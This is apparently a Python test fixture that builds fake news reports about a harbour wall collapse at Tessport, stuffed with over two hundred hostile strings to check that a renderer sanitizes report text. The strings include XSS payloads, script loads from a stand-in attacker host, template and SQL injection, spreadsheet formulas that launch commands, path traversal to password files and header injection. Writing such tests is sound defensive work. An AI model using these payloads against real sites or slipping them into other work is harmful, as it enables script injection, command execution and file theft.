"""Hostile report text: more than two hundred strings that try to be anything but text, and reports that carry them.

Every string names its payload `HIT`: a page on which `window.HIT` is set, an element of FORBIDDEN stands or an
attribute that begins with `on` was let in has failed.
"""

from itertools import product
from typing import Any

HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
)
CARRIERS = (
    "<img src=x {}=window.HIT=1>",
    '<svg {}="window.HIT=1"><circle r=9></svg>',
    "<body {}=window.HIT=1>",
    '<input autofocus {}="window.HIT=1">',
    "<details open {}=window.HIT=1><summary>more</summary></details>",
    '"><a href="#" {}="window.HIT=1">read on</a>',
    "' {}='window.HIT=1' x='",
    '" {}="window.HIT=1" x="',
    "`{}=`window.HIT=1`",
)
SCHEMES = (
    "javascript:window.HIT=1",
    "JaVaScRiPt:window.HIT=1",
    "java\tscript:window.HIT=1",
    "java\nscript:window.HIT=1",
    "\x01javascript:window.HIT=1",
    "&#106;avascript:window.HIT=1",
    "javascript&colon;window.HIT=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.HIT=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuSElUPTE8L3NjcmlwdD4=",
    "//attacker.invalid/x.js",
    "file:///etc/passwd",
)
LINKS = (
    '<a href="{}">statement</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>go</button></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    "[statement]({})",
    "<{}>",
)
OTHERS = (
    "<script>window.HIT=1</script>",
    "<ScRiPt>window.HIT=1</sCrIpT>",
    "<script src=//attacker.invalid/x.js></script>",
    '<script type="module">window.HIT=1</script>',
    "<scr<script>ipt>window.HIT=1</scr</script>ipt>",
    "</script><script>window.HIT=1</script>",
    "</title><script>window.HIT=1</script>",
    "</textarea><script>window.HIT=1</script>",
    "</style><script>window.HIT=1</script>",
    "</mark></p></article><script>window.HIT=1</script>",
    "--><script>window.HIT=1</script><!--",
    "]]><script>window.HIT=1</script><![CDATA[",
    "<!--<img src='--><img src=x onerror=window.HIT=1>'>",
    "<style>@import '//attacker.invalid/x.css';</style>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    '<link rel=stylesheet href="//attacker.invalid/x.css">',
    '<meta http-equiv="refresh" content="0;url=//attacker.invalid/">',
    '<base href="//attacker.invalid/">',
    '<math><mtext><mglyph><svg><mtext><style><img src=x onerror=window.HIT=1></style>',
    '<noscript><p title="</noscript><img src=x onerror=window.HIT=1>">',
    '<svg><script>window.HIT=1</script></svg>',
    '<svg><animate onbegin=window.HIT=1 attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.HIT=1/>#x"/></svg>',
    '<template><script>window.HIT=1</script></template>',
    '<video><source onerror="window.HIT=1"></video>',
    '<audio src=x onerror=window.HIT=1>',
    '<marquee onstart=window.HIT=1>x</marquee>',
    '<select autofocus onfocus=window.HIT=1>',
    '<keygen autofocus onfocus=window.HIT=1>',
    '<frameset onload=window.HIT=1>',
    '<isindex action=javascript:window.HIT=1>',
    '<table background="javascript:window.HIT=1">',
    '<div id="HIT">x</div>',
    '<form name="HIT"><input name="csrf"></form>',
    '<img name="HIT" src=x>',
    "&lt;script&gt;window.HIT=1&lt;/script&gt;",
    "&#60;script&#62;window.HIT=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.HIT=1",
    "%3Cscript%3Ewindow.HIT=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.HIT=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.HIT=1",
    "+ADw-script+AD4-window.HIT=1+ADw-/script+AD4-",
    "＜script＞window.HIT=1＜/script＞",
    "<\u0000script>window.HIT=1</script>",
    "<script\u2028>window.HIT=1\u2029</script>",
    "\u202e<script>window.HIT=1</script>\u202c",
    "\ufeff<script>window.HIT=1</script>",
    "<img src=x onerror=window.HIT=1//",
    "<img\tsrc=x\tonerror=window.HIT=1>",
    "<img/src=x/onerror=window.HIT=1>",
    "<<img src=x onerror=window.HIT=1>",
    "<img src='x' onerror=\u0060window.HIT=1\u0060>",
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${window.HIT=1}",
    "#{window.HIT=1}",
    "<%= window.HIT=1 %>",
    "{{constructor.constructor('window.HIT=1')()}}",
    "[[${window.HIT=1}]]",
    "');window.HIT=1;('",
    '");window.HIT=1;("',
    "\\');window.HIT=1;//",
    "`;window.HIT=1;`",
    '</script><!--<script>"',
    '{"__proto__": {"HIT": 1}}',
    '"}]};window.HIT=1;//',
    "\u2028window.HIT=1\u2029",
    "![x](x\"onerror=\"window.HIT=1)",
    "[x]: javascript:window.HIT=1",
    "`<script>window.HIT=1</script>`",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    '" OR NEAR(* *) AND body:"',
    "body : * AND -",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd\u0000.txt",
    "HTTP/1.1 200 OK\r\nSet-Cookie: HIT=1\r\n\r\n<script>window.HIT=1</script>",
    "report\r\nX-Injected: HIT",
    "\x1b]0;HIT\x07\x1b[2J\x1b[31mred",
    "\x1b]8;;javascript:window.HIT=1\x07link\x1b]8;;\x07",
    "\u202eevil\u202c \u2066mixed\u2069",
    "A" * 4000,
    "<" * 4000,
    "<b>" * 1000,
    "&" * 2000,
    "Z\u0351\u0343\u0366" * 200,
)  # fmt: skip
INJECTIONS: tuple[str, ...] = (
    *OTHERS,
    *(carrier.format(handler) for carrier, handler in product(CARRIERS, HANDLERS)),
    *(link.format(scheme) for link, scheme in product(LINKS, SCHEMES)),
)
"""All of them; none holds a lone surrogate, which no JSON could carry."""
SHARED = 24
"""Sentences that all the reports have in common."""
FORBIDDEN = (
    "script", "iframe", "object", "embed", "form", "base", "link", "meta", "style", "frameset",
    "marquee", "keygen", "isindex", "math", "template", "video", "audio", "input", "select",
)  # fmt: skip
"""Elements that report text must never become."""


def hostile_records(outlets: int = 3) -> list[dict[str, Any]]:
    """Return reports of one event as JSON Lines records: each injection stands in prose, in quotes and in every field.

    The sentences around the injections are alike in all reports, so that they make one story.
    """
    records = []
    for number in range(outlets):
        lines = [
            f"Mayor Ilsa Varn said the harbour wall at Tessport broke on Monday and {3 + number} people died."
        ]
        for at, injection in enumerate(INJECTIONS):
            if at % outlets == number:
                lines.append(f"“{injection}” said harbour master Odo Brandt {injection} on Monday.")
            if at < SHARED:
                lines.append(
                    f"Engineers of Tessport council counted {at + 10} cracks in wall {at}."
                )
        own = INJECTIONS[number]
        records.append(
            {
                "id": f"report-{number}{own}",
                "title": f"Harbour wall breaks at Tessport {own}",
                "text": "\n\n".join(lines),
                "outlet": f"Tessport Post {INJECTIONS[number + 3]}",
                "agency": INJECTIONS[number + 6],
                "url": "javascript:window.HIT=1" if number else "https://post.invalid/<script>HIT",
                "published_at": f"2025-03-1{number}T08:00:00Z",
                "language": "en",
            }
        )
    return records
